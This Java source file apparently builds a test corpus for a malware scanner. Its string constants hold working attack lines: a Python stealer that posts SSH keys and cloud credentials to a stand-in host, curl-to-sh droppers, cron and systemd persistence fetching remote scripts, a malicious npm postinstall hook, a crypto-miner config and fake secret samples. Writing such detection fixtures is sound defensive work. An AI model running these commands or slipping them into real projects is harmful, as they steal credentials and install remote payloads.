package dev.palisade.scanner.corpus;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Harmless stand-ins for malicious files: they carry the indicators the rules look for (strings,
 * shapes, modes) and do nothing when run. None of them is executable code beyond an ELF header.
 */
final class Payloads {

  private Payloads() {}

  static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  /** A 64-byte ELF64 header, pseudo-random filler, then {@code text}: enough for magic gates. */
  static byte[] elf(String text, long seed) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] h = new byte[64];
    byte[] ident = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
    System.arraycopy(ident, 0, h, 0, ident.length);
    h[16] = 2;
    h[18] = 0x3e;
    h[20] = 1;
    h[52] = 64;
    out.writeBytes(h);
    byte[] filler = new byte[4096];
    new Random(seed).nextBytes(filler);
    out.writeBytes(filler);
    out.writeBytes(text.getBytes(StandardCharsets.ISO_8859_1));
    out.writeBytes(filler);
    return out.toByteArray();
  }

  static byte[] xmrigElf() {
    return elf("\0XMRig/6.21.0 (Linux x86_64)\0 --donate-level=N\0rx/0\0--randomx-1gb-pages\0", 1);
  }

  static byte[] bashElf() {
    return elf("\0GNU bash, version %s (%s)\0", 2);
  }

  static byte[] upxElf() {
    return elf("\0.shstrtab\0UPX0\0UPX1\0$Info: This file is packed with the UPX executable packer $\0UPX!", 3);
  }

  static final String XMRIG_CONFIG = """
      {
        "autosave": true,
        "cpu": {"enabled": true, "huge-pages": true},
        "randomx": {"1gb-pages": false},
        "donate-level": 1,
        "pools": [{"url": "91.208.184.66:443", "user": "worker", "pass": "x", "keepalive": true, "tls": true}]
      }
      """;

  static final String STEALER_PY = """
      import os, glob, requests
      home = os.path.expanduser("~")
      found = glob.glob(home + "/.ssh/id_*") + [home + "/.aws/credentials", home + "/.kube/config"]
      data = {p: open(p).read() for p in found if os.path.exists(p)}
      requests.post("https://collector.invalid/u", json=data)
      """;

  static final String ENV_EXFIL_SH = "#!/bin/sh\nenv | base64 -w0 | curl -s -d @- https://collector.invalid/e\nexec node server.js\n";

  static final String ENV_EXFIL_PY = "import os, json, urllib.request\n"
      + "urllib.request.urlopen('https://c.invalid/x', json.dumps(dict(os.environ)).encode())\n";

  static final String PTH = "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
      + "'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'])\n";

  static final String SITECUSTOMIZE = "import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9/s').read())\n";

  static final String NPM_PACKAGE = "{\n  \"name\": \"colors-plus\",\n  \"version\": \"1.0.3\",\n"
      + "  \"scripts\": {\"postinstall\": \"curl -sL https://cdn.invalid/p.sh | sh\"}\n}\n";

  static final String USER_UNIT = "[Unit]\nDescription=System Monitor\n[Service]\n"
      + "ExecStart=/usr/bin/python3 /root/.config/sysmon/sysmon.py\nRestart=always\n[Install]\nWantedBy=default.target\n";

  static final String SHM_UNIT = "[Service]\nExecStart=/dev/shm/kworker -c /dev/shm/k.json\n";

  static final String CRON = "* * * * * root (curl -fsSL http://203.0.113.5/s.sh || wget -q -O- http://203.0.113.5/s.sh) | sh\n";

  static final String PROFILE_D = "pgrep -f kdevtmp >/dev/null || nohup /tmp/.k/kdevtmp -B >/dev/null 2>&1 &\n";

  static final String RC_LOCAL = "#!/bin/sh -e\nwget -q -O /var/tmp/u http://203.0.113.8/u && sh /var/tmp/u\nexit 0\n";

  static final String AUTHORIZED_KEYS =
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGQ4cXJvbmVzdGFuZG5vdGFyZWFsa2V5Zm9ydGVzdHM operator@build\n";

  static final String DROPPER_SH = "#!/bin/sh\nset -e\nwget -q https://objects.invalid/r/nodjs -O /tmp/.cache/nodjs\n"
      + "chmod +x /tmp/.cache/nodjs\n/tmp/.cache/nodjs --config /tmp/.cache/c.json &\nexec \"$@\"\n";

  static final String DROPPER_PY = "#!/usr/bin/env python3\nimport os, subprocess, urllib.request\np='/dev/shm/.w'\n"
      + "urllib.request.urlretrieve('http://203.0.113.4/w', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n";

  static final String RAW_IP_SH = "#!/bin/bash\ncurl -s http://45.9.148.21/ldr.sh | bash\n";

  static final String EXEC_B64_PY = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n";

  static final String MINER_ARGS = "./nodjs -o stratum+tcp://pool.example.org:3333 -u worker -p x --donate-level 1";

  // Secret-shaped samples are split in the source so secret scanners do not flag this repository;
  // the compiled constants are whole, which is what the scanner under test must find.
  static final String PRIVATE_KEY = "-----BEGIN OPENSSH " + "PRIVATE KEY-----\n"
      + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n";

  static final String AWS_CREDENTIALS = "[default]\naws_access_key_id = AKIA" + "Q3EGTNX5HLWZ7PKA\n"
      + "aws_secret_access_key = q3Zr8W1kU2vX9yT4pL6nB0mC7dF5gH8jK2sA1eR9\n";

  static final String DOCKER_CONFIG = "{\n  \"auths\": {\n    \"registry.example.com\": {\n"
      + "      \"auth\": \"cHVzaGVyOnMzY3IzdC1wdXNoLWtleQ==\"\n    }\n  }\n}\n";

  static final String GH_ENV = "GH_TOKEN=ghp_" + "Zq8Lw2Xv7Rt5Yp3Nm9Kd4Hs6Jf1Bc0Ga2Ue7\n";

  static final String SA_JSON = "{\"type\": \"service_account\", \"private_key\": "
      + "\"-----BEGIN " + "PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----\\n\"}\n";

  static String base64(String s) {
    return Base64.getEncoder().encodeToString(utf8(s));
  }

  static String hex(String s) {
    return HexFormat.of().formatHex(utf8(s));
  }

  /** A zip (jar, wheel) holding the given name/content pairs. */
  static byte[] zip(Object... nameContent) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(out)) {
        for (int i = 0; i < nameContent.length; i += 2) {
          zip.putNextEntry(new ZipEntry((String) nameContent[i]));
          Object c = nameContent[i + 1];
          zip.write(c instanceof byte[] b ? b : utf8((String) c));
          zip.closeEntry();
        }
      }
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
